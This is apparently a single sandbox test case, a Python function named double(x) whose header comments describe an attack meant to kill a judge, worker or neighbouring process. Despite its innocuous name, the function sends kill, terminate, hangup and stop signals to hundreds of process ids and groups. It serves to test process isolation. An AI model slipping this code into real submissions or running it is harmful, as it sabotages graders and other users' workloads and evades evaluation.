# DESC: sends every signal to every pid and group that it can name
# SUCCESS: a judge, a worker or a neighbour dies
# DETECT: neighbours, state
# KIND: cell
# SOLVED: others
# WALLS: namespaces ids


def double(x):
    import os, signal

    for pid in [*range(2, 300), -1, *range(-300, -1)]:
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.kill(0, signal.SIGKILL)
